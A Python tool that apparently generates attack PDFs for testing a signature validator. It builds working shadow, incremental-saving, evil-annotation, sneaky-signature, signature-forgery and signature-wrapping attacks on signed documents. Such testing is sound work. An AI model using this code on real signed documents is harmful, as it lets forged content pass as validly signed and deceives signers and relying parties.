#!/usr/bin/env python3
"""pdfatk.py - builds the published PDF attack classes as an attacker
would: raw incremental updates appended to a signed PDF (or raw revisions
of a document prepared before it is signed), written byte by byte.

  pdfatk.py prepare-shadow OUT INFO.json   a document with hidden revisions
  pdfatk.py ATTACK IN OUT [INFO.json]      one attack on a signed IN

The test documents are mohur's own (classic cross-reference tables), so a
small reader of "N 0 obj ... endobj" and the last trailer is enough here."""
import json
import re
import sys


def last_obj(d, n):
    """The body of the last definition of object n (between obj/endobj)."""
    ms = list(re.finditer(rb"(?<![0-9])%d 0 obj\s*(.*?)\s*endobj" % n, d, re.S))
    if not ms:
        raise SystemExit("object %d not found" % n)
    return ms[-1].group(1)


def trailer_info(d):
    prev = int(re.findall(rb"startxref\s+(\d+)", d)[-1])
    size = max(int(x) for x in re.findall(rb"/Size (\d+)", d))
    root = int(re.findall(rb"/Root (\d+) 0 R", d)[-1])
    return prev, size, root


def update(d, objs, frees=(), points=None, trailer_extra=b"", prev=True, root=None,
           size=None):
    """Appends one update: objs {id: body bytes}, frees [id], points {id:
    offset} (xref entries pointing at existing bytes)."""
    p, s, r = trailer_info(d)
    if not d.endswith(b"\n"):
        d += b"\n"
    out = bytearray(d)
    ent = {}
    for n, body in sorted(objs.items()):
        ent[n] = ("n", len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    for n in frees:
        ent[n] = ("f", 0)
    for n, off in (points or {}).items():
        ent[n] = ("n", off)
    x = len(out)
    out += b"xref\n"
    if not ent:
        out += b"0 1\n0000000000 65535 f\r\n"
    for n in sorted(ent):
        t, off = ent[n]
        out += b"%d 1\n%010d %05d %s\r\n" % (n, off, 1 if t == "f" else 0, t.encode())
    sz = size if size is not None else max([s] + [n + 1 for n in ent])
    out += b"trailer\n<< /Size %d /Root %d 0 R" % (sz, root if root else r)
    if prev:
        out += b" /Prev %d" % p
    out += trailer_extra + b" >>\nstartxref\n%d\n%%%%EOF\n" % x
    return bytes(out)


def page_with_annot(d, page, annot):
    body = last_obj(d, page)
    if b"/Annots [" in body:
        return re.sub(rb"(/Annots \[[^\]]*)\]", lambda m: m.group(1) + b" %d 0 R]" % annot, body,
                      count=1)
    return body[:-2] + b" /Annots [%d 0 R] >>" % annot


def sig_dicts(d):
    """Object numbers of signature dictionaries (/Type /Sig), in order."""
    return sorted({int(m.group(1)) for m in re.finditer(rb"(\d+) 0 obj\s*<< /Type /Sig ", d)})


def prepare_shadow(out, info_path):
    """A one-page document with three revisions, as an attacker prepares it
    before asking for a signature:
      rev 1: page content [4 0 R 7 0 R]; 7 draws 'Mallory' over the name;
             object 1 (the catalog) points at a shadow page tree 10;
             objects 8 (another content) and 9..12 (a whole shadow catalog,
             pages, page, content) are there, unreferenced
      rev 2: 7 redefined as an empty stream; object 1 redefined to the real
             page tree. What the signer sees: 'Name: Alice'."""
    def stream(data):
        return b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"
    evil = b"q 1 g 60 690 300 40 re f Q BT /F1 24 Tf 72 700 Td (Name: Mallory) Tj ET"
    objs = {
        1: b"<< /Type /Catalog /Pages 10 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 595 842] >>",
        3: b"<< /Type /Page /Parent 2 0 R /Contents [4 0 R 7 0 R] /Resources << /Font << /F1 5 0 R >> >> >>",
        4: stream(b"BT /F1 24 Tf 72 700 Td (Name: Alice) Tj ET"),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        6: b"<< /Producer (attacker) >>",
        7: stream(evil),
        8: stream(evil),
        9: b"<< /Type /Catalog /Pages 10 0 R >>",
        10: b"<< /Type /Pages /Kids [11 0 R] /Count 1 /MediaBox [0 0 595 842] >>",
        11: b"<< /Type /Page /Parent 10 0 R /Contents 12 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        12: stream(evil),
    }
    buf = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offs = {}
    for n in sorted(objs):
        offs[n] = len(buf)
        buf += b"%d 0 obj\n" % n + objs[n] + b"\nendobj\n"
    x = len(buf)
    buf += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for n in sorted(objs):
        buf += b"%010d 00000 n \n" % offs[n]
    buf += (b"trailer\n<< /Size %d /Root 1 0 R /Info 6 0 R /ID [<00112233445566778899aabbccddeeff> "
            b"<00112233445566778899aabbccddeeff>] >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, x))
    d = update(bytes(buf), {7: stream(b""), 1: b"<< /Type /Catalog /Pages 2 0 R >>"},
               trailer_extra=b" /Info 6 0 R")
    open(out, "wb").write(d)
    json.dump({"obj7_rev1": offs[7], "obj1_rev1": offs[1]}, open(info_path, "w"))


def attack(name, d, info):
    p, size, root = trailer_info(d)
    page = 3
    n = size  # the first free object number
    if name == "eaa-freetext":
        # evil annotation: a FreeText box painted over the name
        ap = n + 1
        return update(d, {
            n: b"<< /Type /Annot /Subtype /FreeText /Rect [60 690 360 730] /Contents (Mallory) "
               b"/DA (/Helv 24 Tf 0 g) /F 4 /AP << /N %d 0 R >> >>" % ap,
            ap: b"<< /Type /XObject /Subtype /Form /BBox [0 0 300 40] /Length 52 >>\nstream\n"
                b"q 1 g 0 0 300 40 re f Q BT /F1 24 Tf 4 8 Td (Mallory) Tj ET\nendstream",
            page: page_with_annot(d, page, n)})
    if name == "eaa-freetext-ftsig":
        # a FreeText annotation carrying an /FT /Sig key (issue 8, item 8)
        return update(d, {
            n: b"<< /Type /Annot /Subtype /FreeText /FT /Sig /Rect [60 690 360 730] "
               b"/Contents (Mallory) /DA (/Helv 24 Tf 0 g) /F 4 >>",
            page: page_with_annot(d, page, n)})
    if name == "evil-sig-widget":
        # a widget claiming /FT /Sig with no /V: an empty signature field
        # whose appearance is a white box with another name
        ap = n + 1
        return update(d, {
            n: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (evil) /Rect [60 690 360 730] /F 4 "
               b"/P %d 0 R /AP << /N %d 0 R >> >>" % (page, ap),
            ap: b"<< /Type /XObject /Subtype /Form /BBox [0 0 300 40] /Length 52 >>\nstream\n"
                b"q 1 g 0 0 300 40 re f Q BT /F1 24 Tf 4 8 Td (Mallory) Tj ET\nendstream",
            page: page_with_annot(d, page, n)})
    if name == "ssa":
        # sneaky signature: a new signature field with a value and a visible
        # appearance over the content (not a prepared slot)
        ap, sig = n + 1, n + 2
        return update(d, {
            n: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (sneaky) /V %d 0 R /Rect "
               b"[60 690 360 730] /F 4 /P %d 0 R /AP << /N %d 0 R >> >>" % (sig, page, ap),
            ap: b"<< /Type /XObject /Subtype /Form /BBox [0 0 300 40] /Length 52 >>\nstream\n"
                b"q 1 g 0 0 300 40 re f Q BT /F1 24 Tf 4 8 Td (Mallory) Tj ET\nendstream",
            sig: b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
                 b"/ByteRange [0 0 0 0] /Contents <00> >>",
            page: page_with_annot(d, page, n)})
    if name == "ssa-copy":
        # sneaky signature on an uncertified document: a new field whose
        # value is the EXISTING signature, with a new appearance over the name
        sig = sig_dicts(d)[0]
        af = int(re.findall(rb"(\d+) 0 obj\s*<<[^>]*?/Fields \[", d)[-1])
        ap = n + 1
        afb = re.sub(rb"(/Fields \[[^\]]*)\]", lambda m: m.group(1) + b" %d 0 R]" % n, last_obj(d, af),
                     count=1)
        return update(d, {
            n: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (copy) /V %d 0 R /Rect "
               b"[60 690 360 730] /F 4 /P %d 0 R /AP << /N %d 0 R >> >>" % (sig, page, ap),
            ap: b"<< /Type /XObject /Subtype /Form /BBox [0 0 300 40] /Length 52 >>\nstream\n"
                b"q 1 g 0 0 300 40 re f Q BT /F1 24 Tf 4 8 Td (Mallory) Tj ET\nendstream",
            af: afb,
            page: page_with_annot(d, page, n)})
    if name == "slot-moved":
        # a party fills its slot but moves the widget over the content
        slot = int(re.findall(rb"(\d+) 0 obj\n<< /Type /Annot /Subtype /Widget /FT /Sig /T \(mohur-party-1\)", d)[-1])
        body = last_obj(d, slot)
        body = re.sub(rb"/Rect \[[^\]]*\]", b"/Rect [60 690 360 730]", body)
        return update(d, {slot: body})
    if name == "isa-trailing":
        # incremental saving attack: objects appended after %%EOF with no
        # cross-reference section (readers that rebuild the table show them)
        return d + (b"\n3 0 obj\n<< /Type /Page /Parent 2 0 R /Contents 99 0 R >>\nendobj\n"
                    b"99 0 obj\n<< /Length 44 >>\nstream\nBT /F1 24 Tf 72 700 Td (Mallory) Tj ET\n"
                    b"endstream\nendobj\n")
    if name == "isa-noprev":
        # an update whose cross-reference table has no /Prev but lists every
        # object again (the old ones at their old places) with a new page
        # content: a new document laid over the signed one
        body = last_obj(d, 4).replace(b"Alice", b"Mallo")
        offs = {}
        for m in re.finditer(rb"(?<![0-9])(\d+) 0 obj", d):
            offs[int(m.group(1))] = m.start()
        offs.pop(4, None)
        return update(d, {4: body}, points=offs, prev=False)
    if name == "content":
        # a later update redefines the page content stream
        s = b"BT /F1 24 Tf 72 700 Td (Name: Mallory) Tj ET"
        return update(d, {4: b"<< /Length %d >>\nstream\n" % len(s) + s + b"\nendstream"})
    if name == "freed":
        return update(d, {}, frees=[4])
    if name == "catalog-js":
        body = last_obj(d, root)
        body = body[:-2] + b" /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
        return update(d, {root: body})
    if name == "shadow-hide":
        # the update points object 7 back at its first, hidden version
        return update(d, {}, points={7: info["obj7_rev1"]})
    if name == "shadow-replace":
        # the page now shows object 8, which sat unreferenced in the signed bytes
        body = re.sub(rb"(/Contents \[\s*4 0 R\s+)7 0 R", rb"\g<1>8 0 R", last_obj(d, page))
        assert b"8 0 R" in body
        return update(d, {page: body})
    if name == "shadow-hide-replace":
        # a new catalog that keeps the form (so the signature still shows)
        # over the shadow page tree 10 prepared before signing; the trailer
        # names it
        cat = last_obj(d, root)
        keep = b" ".join(m.group(0) for m in re.finditer(rb"/(AcroForm|Perms) (\d+ 0 R|<<[^>]*>>)", cat))
        return update(d, {n: b"<< /Type /Catalog /Pages 10 0 R " + keep + b" >>"}, root=n)
    if name == "shadow-hide-replace-bare":
        # only a new trailer: /Root names the shadow catalog 9, which has no
        # form: the document now looks unsigned
        return update(d, {}, root=9)
    if name == "shadow-hide-replace-xref":
        # the catalog's first version (shadow page tree) brought back
        return update(d, {}, points={1: info["obj1_rev1"]})
    sigs = sig_dicts(d)
    if name.startswith("usf-"):
        # universal signature forgery: the signature dictionary redefined
        # with /ByteRange or /Contents missing, null, odd or out of range
        s = sigs[0]
        body = last_obj(d, s)
        br = re.compile(rb"/ByteRange \[[^\]]*\]")
        ct = re.compile(rb"/Contents <[0-9a-fA-F]*>")
        new = {
            "usf-br-missing": lambda b: br.sub(b"", b),
            "usf-br-null": lambda b: br.sub(b"/ByteRange null", b),
            "usf-br-odd": lambda b: br.sub(b"/ByteRange [0 10 20]", b),
            "usf-br-range": lambda b: br.sub(b"/ByteRange [0 10 20 99999999]", b),
            "usf-contents-missing": lambda b: ct.sub(b"", b),
            "usf-contents-null": lambda b: ct.sub(b"/Contents null", b),
        }[name](body)
        return update(d, {s: new})
    if name == "swa":
        # signature wrapping: the signature dictionary is closed early inside
        # the /Contents gap (which no signature covers), a new page content
        # is written there, and an update points object 4 at it; the signed
        # bytes keep their places, the rest of the old dictionary becomes
        # junk that lenient readers skip
        m = list(re.finditer(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\]", d))[0]
        a, b, c, e = map(int, m.groups())
        hexs = d[a + b + 1:c - 1]
        used = len(hexs.rstrip(b"0"))
        used += used % 2
        s = b"BT /F1 24 Tf 72 700 Td (Name: Mallory) Tj ET"
        head = b"<" + hexs[:used] + b"> >>\nendobj\n"
        obj = b"4 0 obj\n<< /Length %d >>\nstream\n" % len(s) + s + b"\nendstream\nendobj\n%"
        newgap = head + obj
        newgap += b"0" * (c - a - b - len(newgap))
        d2 = d[:a + b] + newgap + d[c:]
        return update(d2, {}, points={4: a + b + len(head)})
    raise SystemExit("unknown attack " + name)


def main():
    if sys.argv[1] == "prepare-shadow":
        prepare_shadow(sys.argv[2], sys.argv[3])
        return
    name, src, out = sys.argv[1:4]
    info = json.load(open(sys.argv[4])) if len(sys.argv) > 4 else {}
    d = open(src, "rb").read()
    open(out, "wb").write(attack(name, d, info))


if __name__ == "__main__":
    main()
